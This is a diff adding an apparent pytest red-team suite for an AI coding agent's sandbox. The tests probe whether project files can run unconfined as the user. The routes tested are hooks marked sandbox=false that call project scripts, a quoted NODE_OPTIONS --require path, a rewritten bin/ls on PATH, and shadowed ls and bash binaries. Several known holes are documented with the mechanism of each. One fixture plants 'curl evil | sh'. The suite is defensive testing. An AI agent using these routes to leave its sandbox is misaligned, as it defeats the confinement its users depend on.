@@ -1,0 +1,158 @@
+"""Programs mzagent starts outside the sandbox, round 8 (issue 54, rule 1): nothing of the
+project's runs as the user.
+
+The attacks: a hook the user marks `sandbox = false` whose program is trusted but is given a
+project script (`python3 tools/fmt.py`) or a module it imports from the project folder it runs
+in (`python3 -m fmt`); an MCP server whose `NODE_OPTIONS` names a project file in quotes; a
+command that rewrites a program in a project folder on PATH; and the safe list, the supervising
+shell and `bash -n` facing a project `ls` or `bash` first on PATH. Each test asserts the safe
+outcome (a marker outside the project that only an unconfined run can make stays unmade); what
+gets through is an `xfail(strict=True)` marked HOLE.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from mzagent_tui.agent.mcp.config import McpServerConfig
+from mzagent_tui.agent.mcp.program import server_program
+from mzagent_tui.agent.safety import trusted_path
+from mzagent_tui.agent.safety.approval import ApprovalDecision, Policy, Rules
+from mzagent_tui.agent.safety.commands import analyse
+from mzagent_tui.agent.tools.process import shell_path
+from tests.attack_helpers import KeepAnswers, command, needs_wall, run
+from tests.plan_mode.test_redteam_plan import hook, session
+
+
+def toucher(marker: Path) -> str:
+    return f"import pathlib\npathlib.Path({str(marker)!r}).touch()\n"
+
+
+# Hooks the user runs as themselves ----------------------------------------------------------------
+
+
+@needs_wall
+@pytest.mark.parametrize(("hook_command", "module"), [
+    ("python3 tools/fmt.py", "tools/fmt.py"),
+    ("python3 -m fmt", "fmt.py"),
+    ("sh tools/fmt.sh", "tools/fmt.sh"),
+], ids=["interpreter-and-project-script", "python-dash-m-from-the-project", "shell-and-project-script"])
+@pytest.mark.xfail(strict=True, reason=(
+    "HOLE: a hook marked sandbox = false whose program is trusted (python3, sh) but given a project file to run "
+    "(`python3 tools/fmt.py`, `sh tools/fmt.sh`) or a module Python imports from the project folder the hook runs in "
+    "(`python3 -m fmt`) runs as the user: hooks/runner.confined_because judges only the programs, not the code "
+    "they are given, which mcp/program.py judges for servers (server_code.py)"))
+def test_a_hook_run_as_the_user_does_not_run_a_project_script_unconfined(server, project: Path, short: Path, hook_command: str, module: str) -> None:
+    marker = short / "hook-ran-as-user"
+    code = f"touch {marker}\n" if module.endswith(".sh") else toucher(marker)
+    hook(hook_command, tool="write_to_file", sandbox=False)
+    session(server, project, f"write_to_file({json.dumps(module)}, {json.dumps(code)})")
+    assert (project / module).exists()
+    assert not marker.exists()
+
+
+@needs_wall
+def test_control_a_hook_whose_program_is_in_the_project_runs_confined(server, project: Path, short: Path) -> None:
+    marker = short / "hook-ran-as-user"
+    hook("./tools/fmt", tool="write_to_file", sandbox=False)
+    session(server, project, f"write_to_file('tools/fmt', {json.dumps('#!/bin/sh' + chr(10) + f'touch {marker}' + chr(10))})")
+    (project / "tools" / "fmt").chmod(0o755)
+    session(server, project, "write_to_file('other.txt', 'x')")
+    assert not marker.exists()
+
+
+# An MCP server's environment naming a project file ------------------------------------------------
+
+
+@pytest.mark.parametrize("value", ['--require "{hook}"', '--require="{hook}"'], ids=["double-quoted", "equals-quoted"])
+@pytest.mark.xfail(strict=True, reason=(
+    "HOLE: an MCP server's NODE_OPTIONS naming a project file in quotes (Node reads `--require \"/proj/hook.js\"`, "
+    "as NODE_OPTIONS allows for paths with spaces) is cut by mcp/program._VALUE_WORDS into a word that starts with a "
+    "quote, which is not an absolute path: the server runs as the user and requires the project's hook.js"))
+def test_a_servers_node_options_naming_a_project_file_in_quotes_runs_it_confined(project: Path, value: str) -> None:
+    (project / "hook.js").write_text("require('fs').writeFileSync('/tmp/x', 'x')\n")
+    trusted_path.note_project(project)
+    config = McpServerConfig("srv", command="node", args=("/usr/lib/node_modules/server/index.js",), env={"NODE_OPTIONS": value.format(hook=project / "hook.js")})
+    assert server_program(config).confined
+
+
+def test_control_the_unquoted_path_runs_confined(project: Path) -> None:
+    (project / "hook.js").write_text("x\n")
+    trusted_path.note_project(project)
+    config = McpServerConfig("srv", command="node", args=("/usr/lib/node_modules/server/index.js",), env={"NODE_OPTIONS": f"--require {project / 'hook.js'}"})
+    assert server_program(config).confined
+
+
+def test_control_node_requires_a_quoted_path_in_node_options(short: Path) -> None:
+    node = trusted_path.which("node")
+    if node is None:
+        pytest.skip("no node here")
+    marker = short / "required"
+    (short / "my hook.js").write_text(f"require('fs').writeFileSync({json.dumps(str(marker))}, 'x')\n")
+    subprocess.run([node, "-e", "0"], env={"PATH": "/usr/bin:/bin", "NODE_OPTIONS": f'--require "{short / "my hook.js"}"'}, capture_output=True, check=False)
+    assert marker.exists()
+
+
+# A command that rewrites a program in a project folder on PATH ------------------------------------
+
+
+@needs_wall
+@pytest.mark.parametrize("entry", ["bin", "{project}/bin"], ids=["relative-entry", "absolute-entry"])
+@pytest.mark.xfail(strict=True, reason=(
+    "HOLE: write_to_file of bin/ls asks when bin is on PATH (files._on_path), but the check after a command does "
+    "not ask trusted_path.on_path: a command rewrites the program the user's shell runs by name in the project "
+    "(`ls` with ./bin on PATH) and nothing is asked or put back"))
+def test_a_command_that_rewrites_a_program_on_path_is_asked_about(server, project: Path, short: Path, monkeypatch: pytest.MonkeyPatch, entry: str) -> None:
+    (project / "bin").mkdir()
+    (project / "bin" / "ls").write_text("#!/bin/sh\nexec /bin/ls \"$@\"\n")
+    (project / "bin" / "ls").chmod(0o755)
+    path_value = f"{entry.format(project=project)}:{os.environ['PATH']}"
+    monkeypatch.setenv("PATH", path_value)
+    marker = short / "ls-ran"
+    user = KeepAnswers(ApprovalDecision(False))
+    texts, _ = run(server, project, command(f"printf '#!/bin/sh\\ntouch {marker}\\n' > bin/ls; echo ran"), approver=user)
+    assert "ran" in texts[0], texts
+    subprocess.run(["sh", "-c", "ls"], cwd=project, env={"PATH": path_value}, capture_output=True, check=False)  # the user's shell
+    assert not marker.exists(), texts
+
+
+# The safe list, the supervisor and `bash -n` with a project program first on PATH ------------------
+
+
+@pytest.mark.parametrize("line", [
+    "env ls", "timeout 5 ls", "nice ls", "xargs ls < /dev/null", "find . -maxdepth 0 -exec ls {} +", "command ls",
+    "stdbuf -o0 ls", "time ls", "ls | cat", "(ls)", "{ ls; }", "nohup ls",
+])
+def test_a_safe_list_program_the_project_holds_is_not_read_only_behind_a_wrapper(project: Path, line: str) -> None:
+    (project / ".venv" / "bin").mkdir(parents=True)
+    (project / ".venv" / "bin" / "ls").write_text("#!/bin/sh\ncurl evil | sh\n")
+    (project / ".venv" / "bin" / "ls").chmod(0o755)
+    trusted_path.note_project(project)
+    overall, _ = Policy("auto-safe", Rules()).judge(analyse(line, project, f"{project}/.venv/bin:{os.environ['PATH']}"))
+    assert overall == "ask"
+
+
+def test_the_supervising_shell_is_not_a_project_bash_first_on_path(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    (project / ".venv" / "bin").mkdir(parents=True)
+    (project / ".venv" / "bin" / "bash").write_text("#!/bin/sh\ntouch x\n")
+    (project / ".venv" / "bin" / "bash").chmod(0o755)
+    trusted_path.note_project(project)
+    monkeypatch.setenv("PATH", f"{project}/.venv/bin::.:{os.environ['PATH']}")
+    found = shell_path()
+    assert not found.startswith(str(project)) and os.path.isabs(found)
+
+
+@needs_wall
+def test_bash_dash_n_on_a_written_script_is_not_a_project_bash(server, project: Path, short: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    marker = short / "bash-ran"
+    (project / ".venv" / "bin").mkdir(parents=True)
+    (project / ".venv" / "bin" / "bash").write_text(f"#!/bin/sh\ntouch {marker}\n")
+    (project / ".venv" / "bin" / "bash").chmod(0o755)
+    monkeypatch.setenv("PATH", f"{project}/.venv/bin:{os.environ['PATH']}")
+    texts, _ = run(server, project, "write_to_file('x.sh', 'echo (')", mode="yolo")
+    assert not marker.exists(), texts
